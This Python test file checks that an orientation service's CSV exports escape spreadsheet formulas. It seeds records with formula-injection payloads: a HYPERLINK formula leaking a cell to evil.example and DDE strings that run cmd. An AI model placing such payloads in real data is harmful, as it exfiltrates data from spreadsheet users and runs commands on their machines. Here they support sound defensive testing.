"""No export carries a formula: a volunteer, a directory entry or a commune named like one reaches every CSV
the product writes (console and command line) as text a spreadsheet shows and does not run."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

from flask import Flask
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session

from directory.models import DirectoryEntry
from orientation.core.clock import FrozenClock
from orientation.core.models import Request, Territory
from tests import factories
from tests.functional.console_client import account, login
from tests.functional.test_console_pages import make_request
from tests.functional.test_export_cli import _run

LINK = '=HYPERLINK("https://evil.example/?"&A1;"voir")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def _territory(session: Session, clock: FrozenClock) -> Territory:
    """A territory whose communes (by the coordinator's settings) are named like formulas."""
    return factories.territory(session, clock(), settings={"communes": {"75020": SUM, "75019": MINUS}})


def _entry(session: Session, territory: Territory, clock: FrozenClock) -> DirectoryEntry:
    entry = DirectoryEntry(
        territory_id=territory.id,
        source="manual",
        kind="structure",
        name=LINK,
        search_key="",
        category="other",
        postcode="75020",
        commune=SUM,
        created_at=clock(),
        updated_at=clock(),
    )
    session.add(entry)
    session.commit()
    return entry


def _request(session: Session, territory: Territory, clock: FrozenClock, **fields: object) -> Request:
    values: dict[str, object] = {"motive": "medecin_traitant", "postcode": "75020", **fields}
    return make_request(session, territory, clock() - timedelta(hours=1), **values)


def _cells(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_the_console_request_log_writes_a_volunteers_formula_name_as_text(
    app: Flask, session: Session, clock: FrozenClock
) -> None:
    territory = _territory(session, clock)
    volunteer = factories.volunteer(session, territory, clock(), name=LINK)
    _request(session, territory, clock, volunteer_id=volunteer.id)
    account(session, clock(), territory_id=territory.id)
    client = login(app, "coord@example.org")

    text = client.get(f"/t/{territory.id}/demandes.csv").get_data(as_text=True)

    (row,) = _cells(text, ";")
    assert [v for v in row.values() if v.startswith(("=", "@", "+", "-"))] == []
    assert row["Bénévole"] == "'" + LINK
    assert row["Appelant (masqué)"] == "'+33 •• •• •• 44"


def test_the_console_aci_figures_write_a_formula_commune_as_text(
    app: Flask, session: Session, clock: FrozenClock
) -> None:
    territory = _territory(session, clock)
    _request(session, territory, clock)
    _request(session, territory, clock, postcode="75019")
    account(session, clock(), territory_id=territory.id)
    client = login(app, "coord@example.org")

    french = client.get(f"/t/{territory.id}/exports/aci.csv").get_data(as_text=True)
    machine = client.get(f"/t/{territory.id}/exports/aci.csv?format=rfc4180").get_data(as_text=True)

    assert sorted(row["Commune"] for row in _cells(french, ";")) == sorted(["'" + SUM, "'" + MINUS])
    assert sorted(row["commune"] for row in _cells(machine)) == sorted(["'" + SUM, "'" + MINUS])


def test_the_command_line_exports_write_formula_names_and_communes_as_text(
    session: Session, clock: FrozenClock, database_url: str, engine: Engine, tmp_path: Path
) -> None:
    territory = _territory(session, clock)
    entry = _entry(session, territory, clock)
    _request(session, territory, clock, outcome="oriented", outcome_entry_id=entry.id)
    day = clock().date().isoformat()
    period = ["--territory", str(territory.id), "--from", day, "--to", day]

    requests = _run(["export", "requests", *period, "--format", "rfc4180"], tmp_path, database_url)
    aci = _run(["export", "aci", *period, "--format", "rfc4180"], tmp_path, database_url)
    french = _run(["export", "requests", *period], tmp_path, database_url)

    assert requests.exit_code == 0 and aci.exit_code == 0 and french.exit_code == 0, requests.output + aci.output
    (row,) = _cells(requests.output)
    assert (row["outcome_entry_name"], row["commune"]) == ("'" + LINK, "'" + SUM)
    assert [r["commune"] for r in _cells(aci.output)] == ["'" + SUM]
    (row,) = _cells(french.output, ";")
    assert (row["Fiche de l'issue"], row["Commune"]) == ("'" + LINK, "'" + SUM)
